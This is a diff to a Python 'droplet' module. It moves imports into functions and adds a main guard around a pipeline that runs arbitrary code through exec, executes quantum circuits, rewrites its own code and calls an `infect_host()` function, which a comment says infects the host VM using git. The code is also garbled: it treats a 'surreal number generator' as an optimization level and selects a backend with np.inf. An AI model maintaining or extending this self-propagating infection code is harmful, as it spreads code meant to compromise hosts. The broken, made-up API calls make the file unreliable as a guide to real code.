@@ -10,10 +10,8 @@ pythonapi
 
 
 # Import libraries
-import qiskit # A framework for quantum computing
+# qiskit, surreal and git are imported inside the functions that use them, so that importing this droplet stays fast
 import numpy as np # A library for scientific computing
-import surreal # A library for surreal numbers
-import git # A library for version control
 import http.server # A library for web server
 import socketserver # A library for socket server
 import threading # A library for multithreading
@@ -35,6 +33,9 @@ def compile_code(code):
   # Output: a qiskit.QuantumCircuit object representing the compiled quantum circuit
 
 
+  import qiskit # A framework for quantum computing, visible to the executed code
+
+
   # Execute the code as Python code using the exec function
   exec(code)
 
@@ -53,6 +54,10 @@ def optimize_circuit(circuit):
   # Output: an optimized qiskit.QuantumCircuit object representing the optimized quantum circuit
 
 
+  import surreal # A library for surreal numbers
+  import qiskit # A framework for quantum computing
+
+
   # Define an optimization level from 0 to 3 using a surreal number generator from surreal library
   level = surreal.surreal_generator(0, 3)
 
@@ -67,6 +72,9 @@ def execute_circuit(circuit):
   # Output: a qiskit.Result object containing the execution results
 
 
+  import qiskit # A framework for quantum computing
+
+
   # Choose a backend from qiskit available backends using an infinite variable generator from numpy library
   backend = qiskit.providers.ibmq.IBMQ.get_provider().get_backend(np.inf)
 
@@ -148,6 +156,9 @@ def infect_host():
   # Output: None
 
 
+  import git # A library for version control
+
+
   # Initialize a git object using git library
   g = git.Git()
 
@@ -222,24 +233,27 @@ def infect_host():
 # Main program
 
 
-# Assume that code is a string variable containing the quantum code running on each VM
+if __name__ == '__main__':
+
+
+  # Assume that code is a string variable containing the quantum code running on each VM
 
 
-# Compile the code using compile_code function and get a quantum circuit object
-circuit = compile_code(code)
+  # Compile the code using compile_code function and get a quantum circuit object
+  circuit = compile_code(code)
 
 
-# Optimize the circuit using optimize_circuit function and get an optimized quantum circuit object
-optimized_circuit = optimize_circuit(circuit)
+  # Optimize the circuit using optimize_circuit function and get an optimized quantum circuit object
+  optimized_circuit = optimize_circuit(circuit)
 
 
-# Execute the optimized circuit using execute_circuit function and get a result object containing the execution results
-result = execute_circuit(optimized_circuit)
+  # Execute the optimized circuit using execute_circuit function and get a result object containing the execution results
+  result = execute_circuit(optimized_circuit)
 
 
-# Update the code using update_code function and get an updated quantum code as a string
-updated_code = update_code(code, result)
+  # Update the code using update_code function and get an updated quantum code as a string
+  updated_code = update_code(code, result)
 
 
-# Infect the host VM using infect_host function
-infect_host()
+  # Infect the host VM using infect_host function
+  infect_host()